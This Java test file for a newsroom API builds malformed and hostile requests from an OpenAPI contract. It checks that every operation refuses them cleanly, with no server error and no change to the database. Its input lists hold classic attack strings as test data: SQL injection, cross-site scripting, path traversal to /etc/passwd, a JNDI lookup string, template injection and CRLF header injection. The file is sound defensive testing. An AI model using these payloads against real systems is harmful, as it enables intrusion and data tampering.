package io.newsdesk;

import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.newsdesk.support.Api;
import io.newsdesk.support.ContractValidation;
import io.newsdesk.support.LogCapture;
import io.newsdesk.support.RawHttp;
import io.quarkus.test.junit.QuarkusTest;
import io.swagger.v3.oas.models.OpenAPI;
import io.swagger.v3.oas.models.Operation;
import io.swagger.v3.oas.models.PathItem;
import io.swagger.v3.oas.models.media.MediaType;
import io.swagger.v3.oas.models.media.Schema;
import io.swagger.v3.oas.models.parameters.Parameter;
import io.swagger.v3.parser.OpenAPIV3Parser;
import io.swagger.v3.parser.core.models.ParseOptions;
import jakarta.inject.Inject;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.DatabaseMetaData;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import javax.sql.DataSource;
import org.jboss.logging.Logger;
import org.junit.jupiter.api.Test;

/**
 * Bad input for every operation in {@code openapi/openapi.yaml}, generated from the contract so that a new
 * operation is covered without an edit here: malformed and wrongly typed JSON per field, missing and unknown
 * fields, nulls, huge strings and arrays, deep nesting, invalid UTF-8, hostile strings, bad path segments,
 * parameters, cursors, dates and conditional headers, wrong media types and methods. Each operation is
 * called with a token whose role may call it, so it is the input that is refused.
 *
 * <p>The rule: a case that cannot be valid ({@link Kind#REFUSED}) must get a 4xx; a case that may be valid
 * ({@link Kind#MAYBE}: a right-to-left headline is a fine headline) a 2xx, 3xx or 4xx. Never a 5xx; every 4xx
 * is an {@code application/problem+json} body of the contract's Problem shape, and leaves the database as it
 * was: the content of every table is compared around each operation's refused cases, and row counts around
 * each refused case that may have been valid.
 */
@QuarkusTest
class BadInputTest {
    private static final Logger LOG = Logger.getLogger(BadInputTest.class);
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final List<String> METHODS = List.of("GET", "POST", "PUT", "PATCH", "DELETE");
    /** Columns a refused request may still change: when a key was last used. */
    private static final Set<String> VOLATILE = Set.of("last_used_at");

    /** Strings that are valid text, and hostile: they must be stored as text or refused, never break anything. */
    /** A header a hostile value tries to add to the answer (after a line break); no answer may carry it. */
    private static final String INJECTED = "X-Injected";
    private static final List<String> HOSTILE = List.of(
            "'; DROP TABLE article; --", "1' OR '1'='1", "\" OR \"\"=\"", "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>", "javascript:alert(1)", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
            "\u202Egnp.exe\u202C", "\u0627\u0644\u0639\u0631\u0628\u064A\u0629 \u200F", "e\u0301\u0302\u0303\u0304",
            "Z\u0351\u0360\u0361\u035C\u0322\u0327", "bell\u0007null\u0000esc\u001B", "\uFEFFbom", "\uD83D\uDE00 emoji",
            "${jndi:ldap://example.invalid/a}", "{{7*7}}", "%00%0d%0aSet-Cookie: a=b", "line\r\n" + INJECTED + ": 1");

    enum Kind {
        REFUSED, MAYBE
    }

    /** One request to send. */
    record Case(String category, Kind kind, String method, String target, Map<String, String> headers, byte[] body) {
    }

    @Inject
    DataSource dataSource;

    private final Map<String, AtomicInteger> sent = new TreeMap<>();
    private final List<String> failures = new ArrayList<>();
    private int clients;

    @Test
    void shouldRefuseBadInputToEveryOperationWithAProblemAndNoChange() throws Exception {
        ParseOptions options = new ParseOptions();
        options.setResolve(true);
        options.setResolveFully(true);
        OpenAPI contract = new OpenAPIV3Parser().read(ContractValidation.CONTRACT, null, options);
        Map<String, String> fixtures = fixtures();
        List<String> webhooksBefore = webhooks();
        int operations = 0;
        try (LogCapture log = LogCapture.start()) {
            for (Map.Entry<String, PathItem> path : contract.getPaths().entrySet()) {
                Map<String, Operation> declared = operations(path.getValue());
                for (Map.Entry<String, Operation> operation : declared.entrySet()) {
                    operations++;
                    run(operation.getKey() + " " + path.getKey(),
                            cases(path.getKey(), operation.getKey(), operation.getValue(), fixtures));
                }
                List<Case> methods = new ArrayList<>();
                for (String method : METHODS) {
                    if (!declared.containsKey(method)) {
                        methods.add(new Case("unsupported method", Kind.REFUSED, method, fill(path.getKey(), fixtures, null, null),
                                auth(Api.ADMIN, Map.of("Content-Type", "application/json")), "{}".getBytes(StandardCharsets.UTF_8)));
                    }
                }
                run("other methods on " + path.getKey(), methods);
            }
            // The edge removes an answer's header that holds a line break (and logs it): none may have needed it.
            log.lines().stream().filter(line -> line.contains("Removed answer headers")).limit(20)
                    .forEach(line -> failures.add("an answer header held a control character: " + shorten(line)));
        } finally {
            // Cases that may be valid can register webhooks; left behind, they would get every later test's events.
            webhooks().stream().filter(id -> !webhooksBefore.contains(id)).forEach(id -> io.restassured.RestAssured.given()
                    .auth().oauth2(Api.ADMIN).when().delete("/api/v1/webhooks/" + id).then().statusCode(204));
        }
        int total = sent.values().stream().mapToInt(AtomicInteger::get).sum();
        StringBuilder report = new StringBuilder("Bad input: " + total + " cases to " + operations + " operations");
        sent.forEach((category, count) -> report.append("\n  ").append(String.format("%-28s %6d", category, count.get())));
        LOG.info(report);
        assertTrue(operations > 40, "the contract was read: " + operations + " operations");
        if (!failures.isEmpty()) {
            fail(failures.size() + " answers broke the rule:\n" + String.join("\n", failures.subList(0,
                    Math.min(60, failures.size()))));
        }
    }

    private static List<String> webhooks() {
        return io.restassured.RestAssured.given().auth().oauth2(Api.ADMIN).when().get("/api/v1/webhooks")
                .then().statusCode(200).extract().jsonPath().getList("items.id", String.class);
    }

    private static Map<String, Operation> operations(PathItem item) {
        Map<String, Operation> operations = new LinkedHashMap<>();
        item.readOperationsMap().forEach((method, operation) -> operations.put(method.name(), operation));
        return operations;
    }

    /**
     * Real things for path parameters that name something, so that the request gets past the lookup; its
     * own, since cases that may be valid can change them (the story is in politics, which none renames).
     */
    private static Map<String, String> fixtures() {
        Map<String, String> fixtures = new LinkedHashMap<>();
        fixtures.put("article", Api.published(Api.story(Api.unique("Bad input fixture"))));
        // A section of its own: cases that may be valid can rename or delete what they are sent to.
        String section = Api.unique("bad-input").toLowerCase(Locale.ROOT);
        io.restassured.RestAssured.given().auth().oauth2(Api.editor()).contentType(io.restassured.http.ContentType.JSON)
                .body(Map.of("slug", section, "name", "Bad input desk")).when().post("/api/v1/sections")
                .then().statusCode(201);
        fixtures.put("slug", section);
        fixtures.put("feed", section);
        return fixtures;
    }

    private void run(String operation, List<Case> cases) throws Exception {
        long before = checksum();
        List<Case> maybe = new ArrayList<>();
        for (Case c : cases) {
            if (c.kind() == Kind.MAYBE) {
                maybe.add(c);
                continue;
            }
            RawHttp.Answer answer = send(c);
            if (answer != null && (answer.status() < 400 || answer.status() >= 500)) {
                failures.add(describe(c, answer, "must be refused with a 4xx"));
            }
        }
        long after = checksum();
        if (before != after) {
            failures.add(operation + ": refused requests changed the database");
        }
        for (Case c : maybe) {
            String counts = rowCounts();
            RawHttp.Answer answer = send(c);
            if (answer != null && answer.status() >= 500) {
                failures.add(describe(c, answer, "must not be a server error"));
            }
            if (answer != null && answer.status() >= 400 && !counts.equals(rowCounts())) {
                failures.add(describe(c, answer, "was refused but changed the database"));
            }
        }
    }

    /** Sends a case and checks what any answer must be; null when the connection failed. */
    private RawHttp.Answer send(Case c) throws Exception {
        sent.computeIfAbsent(c.category(), k -> new AtomicInteger()).incrementAndGet();
        Map<String, String> headers = new LinkedHashMap<>(c.headers());
        // Every case its own client address, so the review throttle refuses none for the wrong reason.
        int client = ++clients;
        headers.putIfAbsent("X-Forwarded-For", "10." + (client >> 16 & 255) + "." + (client >> 8 & 255) + "." + (client & 255));
        RawHttp.Answer answer;
        try {
            answer = RawHttp.send(c.method(), c.target(), headers, c.body());
        } catch (java.io.IOException e) {
            failures.add(c.method() + " " + shorten(c.target()) + " [" + c.category() + "]: no answer: " + e);
            return null;
        }
        if (answer.headers().containsKey(INJECTED.toLowerCase(Locale.ROOT))) {
            failures.add(describe(c, answer, "carries a header the request's text added"));
        }
        if (answer.status() >= 400) {
            String problem = problemFault(answer);
            if (problem != null) {
                failures.add(describe(c, answer, problem));
            }
        }
        return answer;
    }

    /** What is wrong with a 4xx or 5xx body, held to the contract's Problem schema; null if nothing. */
    private static String problemFault(RawHttp.Answer answer) {
        if (!answer.contentType().startsWith("application/problem+json")) {
            return "is not application/problem+json but '" + answer.contentType() + "'";
        }
        JsonNode problem;
        try {
            problem = JSON.readTree(answer.body());
        } catch (java.io.IOException e) {
            return "has a problem body that is not JSON";
        }
        if (problem == null || !problem.isObject() || !problem.path("type").isTextual() || !problem.path("title").isTextual()
                || !problem.path("status").isInt() || problem.path("status").asInt() != answer.status()) {
            return "has a body that is not a Problem (type, title, status)";
        }
        if (problem.has("errors") && !problem.get("errors").isArray()) {
            return "has errors that are not an array";
        }
        String text = answer.text();
        if (text.contains("Exception") || text.contains("io.newsdesk") || text.contains("\tat ")) {
            return "shows the server's insides";
        }
        return null;
    }

    private static String describe(Case c, RawHttp.Answer answer, String rule) {
        return c.method() + " " + shorten(c.target()) + " [" + c.category() + "] answered " + answer.status() + ": " + rule
                + " " + shorten(answer.text());
    }

    private static String shorten(String text) {
        return text.length() > 160 ? text.substring(0, 160) + "…" : text;
    }

    // ---- cases -------------------------------------------------------------------------------------------

    private List<Case> cases(String path, String method, Operation operation, Map<String, String> fixtures) {
        List<Case> cases = new ArrayList<>();
        String token = secured(operation) ? Api.ADMIN : null;
        List<Parameter> parameters = operation.getParameters() == null ? List.of() : operation.getParameters();
        MediaType body = bodyType(operation);
        String contentType = body == null ? null : contentType(operation);
        byte[] validBody = body == null ? null : bytes(sample(body.getSchema(), 0));
        Map<String, String> headers = auth(token, contentType == null ? Map.of() : Map.of("Content-Type", contentType));
        String target = fill(path, fixtures, null, null);

        for (Parameter parameter : parameters) {
            String in = parameter.getIn();
            Schema<?> schema = parameter.getSchema();
            if ("path".equals(in)) {
                for (String value : badPathSegments()) {
                    cases.add(new Case("path segment", Kind.REFUSED, method, fill(path, fixtures, parameter.getName(), value),
                            headers, validBody));
                }
                // A dot segment is resolved away (RFC 3986, 5.2.4): what is left may be another valid request.
                cases.add(new Case("path segment", Kind.MAYBE, method, fill(path, fixtures, parameter.getName(), "%2e%2e"),
                        headers, validBody));
            } else if ("query".equals(in)) {
                for (Map.Entry<String, Kind> value : badQueryValues(parameter.getName(), schema).entrySet()) {
                    cases.add(new Case(queryCategory(parameter.getName(), schema), value.getValue(), method,
                            target + (target.contains("?") ? "&" : "?") + parameter.getName() + "=" + value.getKey(),
                            headers, validBody));
                }
            }
        }
        for (String header : List.of("If-Match", "If-None-Match", "If-Modified-Since")) {
            for (String value : List.of("garbage", "\"unterminated", "W/", "\"1\", nonsense", "\"" + "9".repeat(40) + "\"",
                    "Mon, 99 Foo 2026 25:61:61 GMT", "1700000000", "x".repeat(4_000))) {
                Map<String, String> conditional = new LinkedHashMap<>(headers);
                conditional.put(header, value);
                cases.add(new Case("conditional header", Kind.MAYBE, method, target, conditional, validBody));
            }
        }
        cases.add(new Case("overlong path", Kind.REFUSED, method, target + "/" + "a".repeat(10_000), headers, validBody));
        for (String control : List.of("\u0001", "\u001b", "\u007f")) {
            cases.add(new Case("control character in a header", Kind.REFUSED, method, target,
                    with(headers, "X-Note", "note" + control), validBody));
        }
        cases.add(new Case("accept", Kind.MAYBE, method, target, with(headers, "Accept", "text/csv"), validBody));
        if (body != null) {
            bodyCases(cases, method, target, headers, body, contentType, token);
        }
        return cases;
    }

    private void bodyCases(List<Case> cases, String method, String target, Map<String, String> headers, MediaType body,
            String contentType, String token) {
        boolean json = contentType.contains("json") && !contentType.contains("ndjson");
        Kind malformed = json ? Kind.REFUSED : Kind.MAYBE; // an NDJSON import reports bad lines in a 200
        for (String text : List.of("{", "{\"a\":}", "[", "nul", "{\"a\":1}}", "{\"a\":1,}", "{'a':1}", "{\"a\":NaN}",
                "{\"a\":1/*c*/}", "{\"a\":01}", "{\"a\":1e99999}", "{\"a\":\"\\uZZZZ\"}", "{\"a\":\"\u0001\"}", "\u0000")) {
            cases.add(new Case("malformed JSON", malformed, method, target, headers, text.getBytes(StandardCharsets.UTF_8)));
        }
        cases.add(new Case("deep nesting", malformed, method, target, headers,
                ("{\"a\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}").getBytes(StandardCharsets.UTF_8)));
        cases.add(new Case("invalid UTF-8", malformed, method, target, headers, concat(
                "{\"name\":\"a".getBytes(StandardCharsets.UTF_8), new byte[] { (byte) 0xC0, (byte) 0xAF, (byte) 0xED,
                        (byte) 0xA0, (byte) 0x80, (byte) 0xFF }, "\"}".getBytes(StandardCharsets.UTF_8))));
        byte[] valid = bytes(sample(body.getSchema(), 0));
        for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "text/json",
                "application/octet-stream")) {
            cases.add(new Case("media type", Kind.REFUSED, method, target, with(headers, "Content-Type", type), valid));
        }
        Map<String, String> untyped = new LinkedHashMap<>(headers);
        untyped.remove("Content-Type");
        cases.add(new Case("media type", Kind.REFUSED, method, target, untyped, valid));
        if (!json) {
            return;
        }
        Schema<?> schema = body.getSchema();
        String rootType = type(schema);
        for (JsonNode root : List.of(NODES.arrayNode(), NODES.textNode("text"), NODES.numberNode(123), NODES.booleanNode(true),
                NODES.nullNode(), NODES.objectNode())) {
            boolean right = root.getNodeType().name().equalsIgnoreCase(rootType == null ? "" : rootType)
                    || root.isObject() && "object".equals(rootType) || root.isArray() && "array".equals(rootType);
            if (!right) {
                cases.add(new Case("wrong JSON type", Kind.REFUSED, method, target, headers, bytes(root)));
            }
        }
        if (!"object".equals(rootType) || schema.getProperties() == null) {
            return;
        }
        ObjectNode base = (ObjectNode) sample(schema, 0);
        List<String> required = schema.getRequired() == null ? List.of() : schema.getRequired();
        cases.add(new Case("unknown field", Kind.REFUSED, method, target, headers, bytes(base.deepCopy().put("zzUnknown", 1))));
        cases.add(new Case("unknown field", Kind.REFUSED, method, target, headers,
                bytes(base.deepCopy().put("id", UUID.randomUUID().toString()))));
        int hostileFields = 0;
        for (Map.Entry<String, Schema> property : schema.getProperties().entrySet()) {
            String field = property.getKey();
            Schema<?> fieldSchema = property.getValue();
            if (Boolean.TRUE.equals(fieldSchema.getReadOnly())) {
                continue;
            }
            for (JsonNode wrong : wrongValues(fieldSchema)) {
                cases.add(new Case("wrong JSON type", Kind.REFUSED, method, target, headers, bytes(base.deepCopy().set(field, wrong))));
            }
            boolean isRequired = required.contains(field);
            if (isRequired) {
                ObjectNode missing = base.deepCopy();
                missing.remove(field);
                cases.add(new Case("missing required field", Kind.REFUSED, method, target, headers, bytes(missing)));
            }
            cases.add(new Case("null", isRequired ? Kind.REFUSED : Kind.MAYBE, method, target, headers,
                    bytes(base.deepCopy().set(field, NODES.nullNode()))));
            String type = type(fieldSchema);
            if ("string".equals(type) && fieldSchema.getEnum() == null && fieldSchema.getFormat() == null) {
                cases.add(new Case("1 MB string", Kind.MAYBE, method, target, headers,
                        bytes(base.deepCopy().put(field, "x".repeat(1_000_000)))));
                if (hostileFields++ < 4) {
                    for (String hostile : HOSTILE) {
                        cases.add(new Case("hostile string", Kind.MAYBE, method, target, headers,
                                bytes(base.deepCopy().put(field, hostile))));
                    }
                }
            }
            if ("array".equals(type)) {
                ArrayNode many = NODES.arrayNode();
                JsonNode item = sample(fieldSchema.getItems(), 1);
                for (int i = 0; i < 10_000; i++) {
                    many.add(item.deepCopy());
                }
                cases.add(new Case("10,000-item array", Kind.MAYBE, method, target, headers, bytes(base.deepCopy().set(field, many))));
            }
            if ("integer".equals(type) || "number".equals(type)) {
                for (String number : List.of("-1", "0", "2147483648", "99999999999999999999", "-0", "1e3")) {
                    cases.add(new Case("invalid number", Kind.MAYBE, method, target, headers,
                            replace(base, field, number)));
                }
            }
        }
    }

    private static byte[] replace(ObjectNode base, String field, String rawNumber) {
        ObjectNode copy = base.deepCopy();
        copy.put(field, 424242);
        return new String(bytes(copy), StandardCharsets.UTF_8).replace("424242", rawNumber).getBytes(StandardCharsets.UTF_8);
    }

    /** Values of another JSON type than the schema's, and strings a format cannot take. */
    private static List<JsonNode> wrongValues(Schema<?> schema) {
        String type = type(schema);
        List<JsonNode> wrong = new ArrayList<>();
        if (type == null) {
            return wrong;
        }
        if (!type.equals("string")) {
            wrong.add(NODES.textNode("3"));
            wrong.add(NODES.textNode("true"));
        }
        if (!type.equals("integer") && !type.equals("number")) {
            wrong.add(NODES.numberNode(123));
            wrong.add(NODES.numberNode(1.5));
        }
        if (type.equals("integer")) {
            wrong.add(NODES.numberNode(1.5));
        }
        if (!type.equals("boolean")) {
            wrong.add(NODES.booleanNode(true));
        }
        if (!type.equals("array")) {
            wrong.add(NODES.arrayNode().add(123));
        }
        if (!type.equals("object")) {
            wrong.add(NODES.objectNode().put("a", 1));
        }
        if (type.equals("array") && schema.getItems() != null && "string".equals(type(schema.getItems()))) {
            wrong.add(NODES.arrayNode().add(123));
            wrong.add(NODES.arrayNode().add(NODES.arrayNode()));
        }
        if ("date-time".equals(schema.getFormat())) {
            wrong.add(NODES.textNode("2026-13-45T25:61:00Z"));
            wrong.add(NODES.textNode("yesterday"));
            wrong.add(NODES.textNode(""));
        }
        if ("uuid".equals(schema.getFormat())) {
            wrong.add(NODES.textNode("not-a-uuid"));
        }
        if (schema.getEnum() != null && !schema.getEnum().isEmpty()) {
            wrong.add(NODES.textNode("no-such-value"));
        }
        return wrong;
    }

    private static List<String> badPathSegments() {
        return List.of("..%2F..%2Fetc%2Fpasswd", "%20", "%00", "%C0%AF", "%zz", "%E0%A4%A", "%27%20OR%201%3D1--",
                "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%E2%80%AEevil", "x".repeat(2_000), UUID.randomUUID().toString());
    }

    private static String queryCategory(String name, Schema<?> schema) {
        if (name.equals("cursor") || name.equals("after")) {
            return "cursor";
        }
        if (name.equals("since") || name.equals("until")) {
            return "date";
        }
        return "integer".equals(type(schema)) ? "invalid number" : "query string";
    }

    /** Query values (already percent-encoded) with whether they can be valid. */
    private static Map<String, Kind> badQueryValues(String name, Schema<?> schema) {
        Map<String, Kind> values = new LinkedHashMap<>();
        String category = queryCategory(name, schema);
        switch (category) {
            case "invalid number" -> {
                for (String v : List.of("abc", "1.5", "-1", "0", "2%00", "%202", "%2B2", "99999999999999999999", "1e3", "0x10",
                        "%EF%BC%92")) {
                    values.put(v, Kind.REFUSED);
                }
            }
            case "cursor" -> {
                for (String v : List.of("!!!", "AAAA", "eyJ4IjoxfQ", "%00", "x".repeat(3_000), "..%2F..", "bm90LWEtY3Vyc29y")) {
                    values.put(v, Kind.REFUSED);
                }
            }
            case "date" -> {
                for (String v : List.of("yesterday", "2026-13-45T00:00:00Z", "1700000000", "2026-02-30T00:00:00Z",
                        "2026-05-01T09:30:00")) {
                    values.put(v, Kind.REFUSED);
                }
                // Far beyond any story, yet well-formed instants: a range rule may refuse them, or not.
                values.put("%2B999999999-01-01T00:00:00Z", Kind.MAYBE);
                values.put("-999999999-01-01T00:00:00Z", Kind.MAYBE);
            }
            default -> {
                for (String v : HOSTILE) {
                    values.put(URLEncoder.encode(v, StandardCharsets.UTF_8), Kind.MAYBE);
                }
                values.put("x".repeat(3_000), Kind.MAYBE);
                values.put("%C0%AF", Kind.MAYBE);
            }
        }
        // Broken percent-encoding, in any parameter.
        values.put("%zz", Kind.REFUSED);
        values.put("%E0%A4%A", Kind.REFUSED);
        return values;
    }

    // ---- building requests -------------------------------------------------------------------------------

    private static boolean secured(Operation operation) {
        return operation.getSecurity() != null && !operation.getSecurity().isEmpty()
                && operation.getSecurity().stream().noneMatch(Map::isEmpty);
    }

    private static MediaType bodyType(Operation operation) {
        if (operation.getRequestBody() == null || operation.getRequestBody().getContent() == null) {
            return null;
        }
        return operation.getRequestBody().getContent().values().stream().findFirst().orElse(null);
    }

    private static String contentType(Operation operation) {
        return operation.getRequestBody().getContent().keySet().iterator().next();
    }

    private static Map<String, String> auth(String token, Map<String, String> headers) {
        Map<String, String> all = new LinkedHashMap<>(headers);
        if (token != null) {
            all.put("Authorization", "Bearer " + token);
        }
        return all;
    }

    private static Map<String, String> with(Map<String, String> headers, String name, String value) {
        Map<String, String> copy = new LinkedHashMap<>(headers);
        copy.put(name, value);
        return copy;
    }

    /** The path with its parameters filled: fixtures where there are, a random UUID elsewhere, one replaced. */
    private static String fill(String path, Map<String, String> fixtures, String replaced, String value) {
        StringBuilder out = new StringBuilder();
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("\\{([^}]+)}").matcher(path);
        while (m.find()) {
            String name = m.group(1);
            String filled = name.equals(replaced) ? value : fixtures.getOrDefault(name, UUID.randomUUID().toString());
            m.appendReplacement(out, java.util.regex.Matcher.quoteReplacement(filled));
        }
        m.appendTail(out);
        return out.toString();
    }

    private static String type(Schema<?> schema) {
        if (schema == null) {
            return null;
        }
        if (schema.getType() != null) {
            return schema.getType();
        }
        if (schema.getTypes() != null && !schema.getTypes().isEmpty()) {
            return schema.getTypes().iterator().next();
        }
        return schema.getProperties() != null ? "object" : null;
    }

    /** A value the schema accepts: required fields (and every field of a small object) with plain values. */
    private static JsonNode sample(Schema<?> schema, int depth) {
        String type = type(schema);
        if (schema == null || type == null || depth > 4) {
            return NODES.textNode("sample");
        }
        if (schema.getExample() != null && !"object".equals(type) && !"array".equals(type)) {
            return JSON.valueToTree(schema.getExample());
        }
        if (schema.getEnum() != null && !schema.getEnum().isEmpty()) {
            return JSON.valueToTree(schema.getEnum().get(0));
        }
        return switch (type) {
            case "object" -> {
                ObjectNode object = NODES.objectNode();
                List<String> required = schema.getRequired() == null ? List.of() : schema.getRequired();
                if (schema.getProperties() != null) {
                    schema.getProperties().forEach((name, property) -> {
                        if (required.contains(name)) {
                            object.set(name, sample(property, depth + 1));
                        }
                    });
                }
                yield object;
            }
            case "array" -> NODES.arrayNode().add(sample(schema.getItems(), depth + 1));
            case "integer" -> NODES.numberNode(schema.getMinimum() != null ? schema.getMinimum().intValue() : 1);
            case "number" -> NODES.numberNode(1);
            case "boolean" -> NODES.booleanNode(false);
            default -> "date-time".equals(schema.getFormat()) ? NODES.textNode("2031-01-05T06:00:00Z")
                    : "uuid".equals(schema.getFormat()) ? NODES.textNode(UUID.randomUUID().toString())
                    : NODES.textNode("Sample text for a field " + UUID.randomUUID().toString().substring(0, 8));
        };
    }

    private static byte[] bytes(JsonNode node) {
        try {
            return JSON.writeValueAsBytes(node);
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    // ---- the database ------------------------------------------------------------------------------------

    private List<String> tables(Connection connection) throws SQLException {
        List<String> tables = new ArrayList<>();
        DatabaseMetaData meta = connection.getMetaData();
        try (ResultSet rs = meta.getTables(null, connection.getSchema(), "%", new String[] { "TABLE" })) {
            while (rs.next()) {
                String name = rs.getString("TABLE_NAME");
                if (!name.toLowerCase(Locale.ROOT).startsWith("flyway") && !name.equalsIgnoreCase("rate_limit_bucket")) {
                    tables.add(name);
                }
            }
        }
        return tables;
    }

    /** Row counts of every table, in one string. */
    private String rowCounts() throws SQLException {
        try (Connection connection = dataSource.getConnection(); Statement statement = connection.createStatement()) {
            List<String> tables = tables(connection);
            StringBuilder sql = new StringBuilder();
            for (String table : tables) {
                sql.append(sql.isEmpty() ? "" : " union all ").append("select '").append(table)
                        .append("', count(*) from \"").append(table).append('"');
            }
            StringBuilder counts = new StringBuilder();
            try (ResultSet rs = statement.executeQuery(sql.toString())) {
                while (rs.next()) {
                    counts.append(rs.getString(1)).append('=').append(rs.getLong(2)).append(' ');
                }
            }
            return counts.toString();
        }
    }

    /** A checksum of the content of every table, independent of row order. */
    private long checksum() throws SQLException {
        long sum = 0;
        try (Connection connection = dataSource.getConnection(); Statement statement = connection.createStatement()) {
            for (String table : tables(connection)) {
                try (ResultSet rs = statement.executeQuery("select * from \"" + table + "\"")) {
                    int columns = rs.getMetaData().getColumnCount();
                    while (rs.next()) {
                        long row = table.hashCode();
                        for (int i = 1; i <= columns; i++) {
                            if (!VOLATILE.contains(rs.getMetaData().getColumnName(i).toLowerCase(Locale.ROOT))) {
                                row = row * 31 + String.valueOf(rs.getString(i)).hashCode();
                            }
                        }
                        sum += row * 0x9E3779B97F4A7C15L;
                    }
                }
            }
        }
        return sum;
    }
}
